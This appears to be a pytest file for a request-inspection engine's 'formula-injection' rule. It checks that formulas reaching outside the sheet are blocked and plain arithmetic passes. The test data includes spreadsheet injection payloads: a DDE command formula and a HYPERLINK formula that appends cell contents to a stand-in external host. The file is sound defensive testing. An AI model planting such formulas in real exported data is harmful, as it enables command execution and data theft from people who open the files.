from __future__ import annotations

import json

import pytest
from gatelens.engine import Engine

from tests.support.builtin_rule import engine_with
from tests.support.messages import request
from tests.support.rules import outcome


@pytest.fixture(scope="module")
def engine(tmp_path_factory: pytest.TempPathFactory) -> Engine:
    return engine_with(tmp_path_factory.mktemp("rules"), "formula-injection")


def found(engine: Engine, value: object) -> list[tuple[str, str]]:
    return outcome(engine.inspect(request(json.dumps(value).encode())))[1]


def test_a_match_says_where_what_and_why(engine: Engine) -> None:
    decision = engine.inspect(request(b'{"name": "=prog|\'/k x\'!A0"}'))
    assert outcome(decision) == ("block", [("formula-injection", "body:/name")])
    assert decision.findings[0].explanation == "a cell that is a formula: asks another program (DDE)"


@pytest.mark.parametrize("value", ['=HYPERLINK("https://a.example/?"&B2)', "=IMPORTDATA(A1)", "\t@call(A1)=x"])
def test_a_formula_that_reaches_out_is_found(engine: Engine, value: str) -> None:
    assert found(engine, [value]) == [("formula-injection", "body:/0")]


@pytest.mark.parametrize("value", ["=1+2", "+49 30 1", "-1", "@ann", '=HYPERLINK("https://a.example")', "=SUM(A1:A2)"])
def test_what_only_computes_passes(engine: Engine, value: str) -> None:
    assert found(engine, [value]) == []
